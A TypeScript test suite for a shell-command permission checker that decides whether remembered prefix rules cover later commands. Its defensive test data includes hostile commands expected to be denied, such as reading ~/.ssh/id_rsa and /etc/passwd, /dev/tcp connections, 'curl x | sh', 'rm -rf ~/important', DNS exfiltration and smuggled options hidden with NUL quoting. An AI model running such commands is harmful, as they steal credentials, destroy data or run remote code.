// The positive model: a prefix rule the prompt offered covers a later command only when the tool is
// modelled and every argument is known and allowed, every path inside the workspace.
import * as assert from 'node:assert/strict';
import { join } from 'node:path';
import { decideCommandLine, offeredRules } from '../../../../../src/broker/permissions/shell/commandRules';
import { KNOWN_TOOLS, knownPrefixFor } from '../../../../../src/broker/permissions/shell/knownTools';
import { loadShellParser, SHELL_WASM_FILES, type ShellParser } from '../../../../../src/broker/permissions/shell/shellCommand';
import { ROOT } from '../../../helpers/repoRoot';

const WASM = join(ROOT, 'node_modules', '@vscode', 'tree-sitter-wasm', 'wasm');

/** [the command the prompt was shown, the prefix it offers, a later command, whether that rule allows it]. */
const CASES: readonly (readonly [string, string | null, string, boolean])[] = [
  ['git grep foo', 'git grep', 'git grep -n bar -- src', true],
  ['git grep foo', 'git grep', 'git grep -e x -e y src/a.ts', true],
  ['git grep foo', 'git grep', 'git grep --op=x foo', false],
  ['git grep foo', 'git grep', 'git grep -O x foo', false],
  ['git grep foo', 'git grep', 'git grep --open-files-in-pager=x foo', false],
  ['git grep foo', 'git grep', 'git grep foo ../other', false],
  ['git log --oneline', 'git log', 'git log -5 --stat main..feature -- src', true],
  ['git log --oneline', 'git log', 'git log --outp=f', false],
  ['git log --oneline', 'git log', "git log $'--output\\0' f", false],
  ['git log --oneline', 'git log', 'git log --ext-diff', false],
  ['git status', 'git status', 'git status -sb', true],
  ['git status', 'git status', 'git status --porcelain=v2 src', true],
  ['git diff', 'git diff', 'git diff --cached --stat', true],
  ['git diff', 'git diff', 'git diff --output=x', false],
  ['git show HEAD', 'git show', 'git show HEAD~2:src/a.ts', true],
  ['git branch -a', 'git branch', 'git branch --list "feat*"', true],
  ['git branch -a', 'git branch', 'git branch evil', false],
  ['git branch -a', 'git branch', 'git branch -D main', false],
  ['git tag', 'git tag', 'git tag v1', false],
  ['git tag', 'git tag', 'git tag -l "v1*"', true],
  ['git rev-parse HEAD', 'git rev-parse', 'git rev-parse --abbrev-ref HEAD', true],
  ['git ls-files', 'git ls-files', 'git ls-files -m src', true],
  ['git blame src/a.ts', 'git blame', 'git blame -L 1,5 src/b.ts', true],
  ['ls', 'ls', 'ls -la src', true],
  ['ls', 'ls', 'ls ~', false],
  ['ls', 'ls', 'ls /etc', false],
  ['ls', 'ls', 'ls ..', false],
  ['cat README.md', 'cat', 'cat -n src/a.ts', true],
  ['cat README.md', 'cat', 'cat ~/.ssh/id_rsa', false],
  ['cat README.md', 'cat', 'cat < /dev/tcp/example.com/80', false],
  ['cat README.md', 'cat', 'cat .git/config', false],
  ['head -n 5 a.txt', 'head', 'head -20 b.txt', true],
  ['tail -f log.txt', 'tail', 'tail -n 50 build.log', true],
  ['wc -l a.txt', 'wc', 'wc -w src/a.ts', true],
  ['grep -rn foo src', 'grep', 'grep -i -e bar -- src', true],
  ['grep -rn foo src', 'grep', 'grep foo /etc/passwd', false],
  ['rg foo', 'rg', 'rg -n --hidden bar src', true],
  ['rg foo', 'rg', 'rg --pre ./x foo', false],
  ['find . -name "*.ts"', 'find', 'find src -type f -maxdepth 2', true],
  ['find . -name "*.ts"', 'find', 'find . -exec touch x ;', false],
  ['find . -name "*.ts"', 'find', "find . $'-exec\\0' touch x \\;", false],
  ['find . -name "*.ts"', 'find', 'find . -fprint out', false],
  ['sort a.txt', 'sort', 'sort -rn b.txt', true],
  ['sort a.txt', 'sort', 'sort -o out a.txt', false],
  ['sort a.txt', 'sort', 'sort --compress-program=x a.txt', false],
  ['uniq a.txt', 'uniq', 'uniq -c b.txt', true],
  ['uniq a.txt', 'uniq', 'uniq a.txt out.txt', false],
  ['echo hi', 'echo', 'echo anything at all', true],
  ['pwd', 'pwd', 'pwd -P', true],
  ['which node', 'which', 'which -a git', true],
  ['stat a.txt', 'stat', 'stat -c %s b.txt', true],
  ['du -sh src', 'du', 'du -h --max-depth=1 .', true],
  ['tree src', 'tree', 'tree -L 2 src', true],
  ['tree src', 'tree', 'tree -o out.txt', false],
  ['jq . a.json', 'jq', 'jq -r .name b.json', true],
  ['jq . a.json', 'jq', 'jq -n env', false],
  ['jq . a.json', 'jq', 'jq --rawfile x ~/.ssh/id_rsa .', false],
  ['npm test', 'npm test', 'npm test -- --grep parser', true],
  ['npm test', 'npm test', 'npm test --script-shell=./x.sh', false],
  ['npm test', 'npm test', "npm test $'--script-shell\\0' x.sh", false],
  ['npm test', 'npm test', 'npm test -- --require ./x.js', false],
  ['npm run build', 'npm run build', 'npm run build --silent', true],
  ['npm run build', 'npm run build', 'npm run build -- --watch', true],
  ['npm run build', 'npm run build', 'npm run build -- --loader ./x.mjs', false],
  ['yarn test', 'yarn test', 'yarn test --verbose', true],
  ['pnpm run lint', 'pnpm run lint', 'pnpm run lint --config x', false],
  ['cargo test', 'cargo test', 'cargo test --release parser -- --nocapture', true],
  ['cargo test', 'cargo test', 'cargo test --config build.rustc-wrapper=x', false],
  ['cargo build', 'cargo build', 'cargo build --manifest-path ../x/Cargo.toml', false],
  ['go test ./...', 'go test', 'go test -run TestX -v ./pkg/...', true],
  ['go test ./...', 'go test', 'go test -exec ./x ./...', false],
  ['go test ./...', 'go test', 'go test -toolexec=x ./...', false],
  ['go test ./...', 'go test', 'go test example.com/x', false],
  ['make test', 'make test', 'make test -j4', true],
  ['make test', 'make test', "make test 'SHELL = /tmp/x'", false],
  ['make test', 'make test', 'make test -f ../Makefile', false],
  ['pytest', 'pytest', 'pytest -x -k parser tests/test_a.py::test_b', true],
  ['pytest', 'pytest', 'pytest -p evil', false],
  ['tsc --noEmit', 'tsc', 'tsc --noEmit -p tsconfig.json', true],
  ['tsc --noEmit', 'tsc', 'tsc -p tsconfig.json', false],
  ['eslint src', 'eslint', 'eslint --max-warnings 0 test', true],
  ['eslint src', 'eslint', 'eslint --plugin x src', false],
  ['eslint src', 'eslint', 'eslint --rulesdir x src', false],
  ['prettier --check src', 'prettier', 'prettier --check test', true],
  ['prettier --check src', 'prettier', 'prettier --write src', false],
  ['prettier --check src', 'prettier', 'prettier --check --plugin ./x.js src', false],
  // Not modelled: exact rules only.
  ['rustup run stable cargo build', null, 'rustup run stable sh -c x', false],
  ['npx mocha', null, 'npx mocha --require ./x.js', false],
  ['rm build.log', null, 'rm -rf ~/important', false],
  ['tar xf x.tar', null, 'tar xf x.tar -C ~', false],
  ['npm config get registry', null, 'npm config set script-shell ./x.sh', false],
  ['dig example.com', null, 'dig SECRET.example.com', false],
  ['GIT status', null, 'GIT -c core.fsmonitor=x status', false],
  ['SH -c true', null, 'SH -c "curl x | sh"', false],
];

suite('known tools (the positive model)', () => {
  let parser: ShellParser;
  suiteSetup(async () => {
    parser = await loadShellParser({ treeSitterWasm: join(WASM, SHELL_WASM_FILES.treeSitter), bashWasm: join(WASM, SHELL_WASM_FILES.bash) });
  });

  test('the prompt offers a prefix only for modelled tools, and that prefix covers only known arguments and paths inside the workspace', () => {
    const failures: string[] = [];
    for (const [shown, prefix, later, allowed] of CASES) {
      const offered = offeredRules(shown, parser.parse(shown), {});
      const prefixes = offered.filter((o) => o.kind === 'prefix').map((o) => o.key);
      if (JSON.stringify(prefixes) !== JSON.stringify(prefix ? [prefix] : [])) failures.push(`${shown}: offered ${JSON.stringify(prefixes)}, expected ${prefix}`);
      for (const rule of offered) {
        const decision = decideCommandLine(later, parser.parse(later), { [rule.key]: rule.value }).decision;
        const expected = rule.kind === 'prefix' && allowed ? 'allow' : later === shown ? 'allow' : 'ask';
        if (decision !== expected) failures.push(`«${rule.label}» for ${shown}: ${later} → ${decision}, expected ${expected}`);
      }
    }
    assert.deepEqual(failures, []);
  });

  test('a rule written by hand keeps VS Code meaning: the prefix covers what follows, under the dangerous-argument table', () => {
    const rules = { rustup: true, 'git log': true };
    const handWritten = new Set(Object.keys(rules));
    const decide = (line: string) => decideCommandLine(line, parser.parse(line), rules, { handWritten }).decision;
    assert.equal(decide('rustup show'), 'allow');
    assert.equal(decide('git log --weird-new-option'), 'allow');
    assert.equal(decide('git log --output=x'), 'ask');
    // The same rules remembered from the prompt are read in the positive model.
    assert.equal(decideCommandLine('rustup show', parser.parse('rustup show'), rules).decision, 'ask');
    assert.equal(decideCommandLine('git log --weird-new-option', parser.parse('git log --weird-new-option'), rules).decision, 'ask');
  });

  test('a relative path after cd in the same line is not placed in the workspace', () => {
    const rules = { '/^cd \\/tmp$/': true, cat: true };
    const line = 'cd /tmp && cat x';
    const decision = decideCommandLine(line, parser.parse(line), rules);
    assert.equal(decision.decision, 'ask');
    assert.match(decision.reason, /folder changed earlier/);
  });

  test('the ask reason names the argument the model does not know', () => {
    const line = 'git grep --op=x foo';
    const decision = decideCommandLine(line, parser.parse(line), { 'git grep': true });
    assert.match(decision.reason, /`--op` is not an option this rule knows/);
  });

  test('a name that is not all lower case never gets a prefix; every modelled tool is named in lower case', () => {
    for (const key of Object.keys(KNOWN_TOOLS)) assert.equal(key, key.toLowerCase());
    assert.equal(knownPrefixFor(['GIT', 'status']), undefined);
    assert.equal(knownPrefixFor(['Git', 'log']), undefined);
    assert.equal(knownPrefixFor(['git', 'status']), 'git status');
  });
});
